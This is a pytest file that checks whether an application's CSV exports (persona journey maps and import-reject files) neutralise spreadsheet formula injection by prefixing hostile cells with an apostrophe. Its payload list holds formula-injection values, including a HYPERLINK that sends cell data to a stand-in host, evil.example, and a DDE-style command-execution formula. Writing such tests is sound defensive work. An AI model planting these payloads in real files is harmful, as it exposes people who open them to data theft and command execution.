"""CSV/formula injection: every CSV a person opens (persona journey map, import rejects) keeps hostile cells as
text — a leading apostrophe — however they arrived (API, file)."""

from __future__ import annotations

import csv
import io
import warnings
from pathlib import Path

from starlette.exceptions import StarletteDeprecationWarning

from touchflow.bootstrap import Application
from touchflow.engine import import_file

with warnings.catch_warnings():
    warnings.simplefilter("ignore", StarletteDeprecationWarning)
    from fastapi.testclient import TestClient

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点这里")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-2+3",
            "\t=1", "\r=1"]


def _is_safe(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_persona_map_csv_neutralises_formulas(client: TestClient) -> None:
    stages = [{"stage": f"{payload} {n}", "emotion": payload, "touchpoints": [payload, "官网"],
               "behaviours": ["purchase"], "expected_action": payload} for n, payload in enumerate(PAYLOADS)]
    persona = {"key": "hostile", "name": "hostile", "condition": {"attr": "city", "exists": True},
               "profile": {"basic_attributes": "a", "interests": "b", "behaviour_habits": "c", "pain_points": "d",
                           "core_needs": "e"},
               "map": stages}
    saved = client.post("/v1/personas", json=persona)
    assert saved.status_code == 201, saved.text
    response = client.get("/v1/personas/hostile/map", params={"format": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert len(rows) == 1 + len(PAYLOADS)
    for n, (payload, row) in enumerate(zip(PAYLOADS, rows[1:], strict=True)):
        stage, emotion, touchpoints, _, _, action, _ = row
        kept = payload.strip()  # the persona parser trims what people type; "=1" is still a formula
        assert (stage, emotion, action) == (f"'{kept} {n}", f"'{kept}", f"'{kept}")  # shown as text, never run
        assert touchpoints == f"'{kept}; 官网"
        assert all(_is_safe(cell) for cell in row)


def test_rejects_file_neutralises_formulas(app: Application, tmp_path: Path) -> None:
    path = tmp_path / "crm.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["name", "phone", "company", "=cmd|' /C calc'!A0"])
        for payload in PAYLOADS:
            writer.writerow([payload, "not a phone", payload, payload])  # no usable identifier: rejected
    report = import_file(app.services, path, "contacts", "crm")
    assert report.rejected == len(PAYLOADS) and report.rejects_file is not None
    text = report.rejects_file.read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["row_number", "reason", "name", "phone", "company", "'=cmd|' /C calc'!A0"]
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        assert row[2] == row[4] == row[5] == f"'{payload}"
        assert all(_is_safe(cell) for cell in row), row


def test_json_lines_rejects_neutralise_the_raw_line(app: Application, tmp_path: Path) -> None:
    path = tmp_path / "events.jsonl"
    path.write_text('{"type": "signup", "email": "a@example.com", "occurred_at": "2026-02-01T10:00:00Z"}\n=HYPERLINK("http://evil.example")\n',
                    encoding="utf-8")
    report = import_file(app.services, path, "events", "web")
    assert report.rejected == 1 and report.rejects_file is not None
    rows = list(csv.reader(io.StringIO(report.rejects_file.read_bytes().decode("utf-8-sig"), newline="")))
    assert rows[1][2] == "'=HYPERLINK(\"http://evil.example\")"
